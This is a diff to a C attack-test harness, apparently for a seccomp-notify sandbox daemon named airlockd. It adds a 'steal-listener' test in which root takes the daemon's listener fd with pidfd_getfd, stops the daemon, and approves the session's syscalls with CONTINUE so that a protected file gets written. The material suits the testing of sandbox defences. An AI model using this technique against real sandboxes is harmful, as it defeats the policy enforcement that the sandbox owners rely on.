@@ -37,6 +37,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <poll.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
@@ -680,6 +681,80 @@ static void attack_policy_rewrite(const char *policy, pid_t daemon)
 	/* an ask that is still asked blocks here until the test denies it */
 	waitpid(pid, &status, 0);
 	printf("sudo after the reload: exit %d\n", WIFEXITED(status) ? WEXITSTATUS(status) : -1);
+}
+
+/* Root stops airlockd (signals are not gated), takes its copy of the session's seccomp
+ * listener with pidfd_getfd and answers the session's own notifications with CONTINUE. */
+static void attack_steal_listener(pid_t daemon)
+{
+	int pidfd, fd, listener = -1, status = 0;
+	pid_t child;
+
+	pidfd = (int)syscall(SYS_pidfd_open, daemon, 0);
+	if (pidfd < 0) {
+		say("pidfd_open(airlockd)", -1);
+		return;
+	}
+	for (fd = 0; fd < 512 && listener < 0; fd++) {
+		char link[64], target[64];
+		ssize_t n;
+		int h = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+
+		if (h < 0) {
+			if (errno != EBADF) {
+				say("pidfd_getfd(airlockd)", -1);
+				break;
+			}
+			continue;
+		}
+		snprintf(link, sizeof(link), "/proc/self/fd/%d", h);
+		n = readlink(link, target, sizeof(target) - 1);
+		target[n > 0 ? n : 0] = '\0';
+		if (strcmp(target, "anon_inode:seccomp notify") == 0)
+			listener = h;
+		else
+			close(h);
+	}
+	close(pidfd);
+	if (listener < 0) {
+		printf("no listener taken\n");
+		return;
+	}
+	printf("took airlockd's listener\n");
+	say("SIGSTOP airlockd", kill(daemon, SIGSTOP));
+	child = fork();
+	if (child == 0) {
+		int t = open(T, O_WRONLY | O_CLOEXEC);
+
+		_exit(t >= 0 && write(t, "PWNED\n", 6) == 6 ? 0 : 1);
+	}
+	for (int i = 0; i < 50; i++) {
+		struct seccomp_notif req;
+		struct seccomp_notif_resp resp;
+		struct pollfd p = { .fd = listener, .events = POLLIN };
+
+		if (waitpid(child, &status, WNOHANG) == child) {
+			child = -1;
+			break;
+		}
+		if (poll(&p, 1, 20) != 1)
+			continue;
+		memset(&req, 0, sizeof(req));
+		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
+			continue;
+		memset(&resp, 0, sizeof(resp));
+		resp.id = req.id;
+		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
+		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
+		printf("answered syscall %d of pid %u with CONTINUE\n", req.data.nr, req.pid);
+	}
+	if (child > 0)
+		waitpid(child, &status, 0);
+	say("SIGCONT airlockd", kill(daemon, SIGCONT));
+	if (WIFEXITED(status) && WEXITSTATUS(status) == 0) {
+		printf("wrote the protected file past the gate\n");
+		escaped = true;
+	}
 }
 
 /* Hold as many API connections as airlockd takes, then wait to be killed. */
@@ -1515,6 +1590,8 @@ int main(int argc, char **argv)
 		attack_race_buf();
 	else if (strcmp(what, "race-symlink") == 0)
 		attack_race_symlink();
+	else if (strcmp(what, "steal-listener") == 0 && argc > 3)
+		attack_steal_listener((pid_t)atoi(argv[3]));
 	else if (strcmp(what, "policy-rewrite") == 0 && argc > 4)
 		attack_policy_rewrite(argv[3], (pid_t)atoi(argv[4]));
 	else if (strcmp(what, "api-flood") == 0 && argc > 3)
